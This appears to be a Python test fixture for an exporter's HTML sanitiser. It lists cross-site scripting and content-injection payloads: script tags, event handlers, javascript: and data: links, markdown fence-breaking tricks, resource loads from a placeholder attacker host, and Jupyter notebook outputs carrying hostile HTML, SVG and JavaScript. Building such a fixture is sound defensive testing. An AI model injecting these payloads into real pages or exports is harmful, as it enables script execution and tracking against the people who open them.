"""What a model, a file or an import may say to attack whoever opens an export."""

from __future__ import annotations

AWAY = "https://attacker.invalid"

TEXTS = [
    f"<script src='{AWAY}/a.js'></script><script>alert(1)</script>",
    f"<img src='{AWAY}/pixel.png' onerror='alert(1)'>",
    "<img src=x onerror=alert(1)//",
    f"![pixel]({AWAY}/pixel.png)",
    f"![pixel][ref]\n\n[ref]: {AWAY}/pixel.png",
    f"[ref]:\n{AWAY}/pixel.png\n\n![ref]",
    "[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [a](  javascript:alert(1))",
    "[click](&#106;avascript:alert(1)) [click](java\tscript:alert(1))",
    "[click]( <javascript:alert(1)>) [x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x)",
    "[click](\njavascript:alert(1))",
    "[r]\n\n[r]: javascript:alert(1)",
    "> [r]: javascript:alert(1)\n\n[r]",
    "<javascript:alert(1)>",
    f"<svg onload=alert(1)><image href='{AWAY}/x.svg'/></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<link rel=stylesheet href={AWAY}/x.css><style>@import '{AWAY}/y.css'</style>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'><base href='{AWAY}/'>",
    f"<form action='{AWAY}'><input autofocus onfocus=alert(1)></form>",
    "`code <b>` <script>alert(1)</script> `",
    "- `a\n- b <script>alert(1)</script>`",
    "| a |\n|---|\n| `x | <script>alert(1)</script>` |",
    "\\`<script>alert(1)</script>`",
    "```\nopen fence <script>alert(1)</script>",
    "```py`\n<script>alert(1)</script>\n```",
    "~~~\n<script>in a fence</script>\n~~~\n<script>alert(1)</script>",
    "    ```\n<script>alert(1)</script>\n    ```",
    "- item\n\n  ```\n  x\n<script>alert(1)</script>\n",
    "> ```\n> x\n<script>alert(1)</script>\n```",
    "<!-- \n-->\n<script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    f"$\\href{{javascript:alert(1)}}{{x}}$ $$\\includegraphics{{{AWAY}/x.png}}$$",
    f"<a href='{AWAY}' ping='{AWAY}/ping'>x</a> <video src={AWAY}/v.mp4 autoplay>",
    "</article></details></pre></summary></style></title><script>alert(1)</script>",
    "{{7*7}} ]]> &lt;script&gt;alert(1)&lt;/script&gt; \x00<scr\x00ipt>alert(1)</script>",
    ">" * 600 + " <script>alert(1)</script>",
]

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5Erk"
    "Jggg=="
)

OUTPUTS = [
    {
        "output_type": "display_data",
        "metadata": {"isolated": True},
        "data": {
            "text/html": f"<table onclick=alert(1)><tr><td>7<img src='{AWAY}/p.png'>"
            "<script>alert(1)</script></td></tr></table>",
            "text/plain": "a table",
            "image/svg+xml": f"<svg onload=alert(1)><image href='{AWAY}/x'/></svg>",
            "application/javascript": "alert(1)",
            "application/vnd.vegalite.v5+json": {"data": {"url": f"{AWAY}/data.json"}},
            "text/markdown": f"![x]({AWAY}/m.png)",
            "text/latex": "$\\href{javascript:alert(1)}{x}$",
        },
    },
    {
        "output_type": "display_data",
        "metadata": {},
        "data": {"image/png": '"><script>alert(1)</script>', "text/plain": "no picture"},
    },
    {
        "output_type": "display_data",
        "metadata": {},
        "data": {"image/png": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "text/plain": "an SVG that lies"},
    },
    {
        "output_type": "execute_result",
        "execution_count": 1,
        "metadata": {},
        "data": {"image/png": PIXEL, "text/plain": "<Figure>"},
    },
    {"output_type": "stream", "name": "stdout", "text": "\x1b[31m<script>alert(1)</script>\n```\n"},
    {"output_type": "error", "ename": "<b>", "evalue": "<i>", "traceback": ["<script>x</script>"]},
    {"output_type": "unheard of", "data": 3},
]
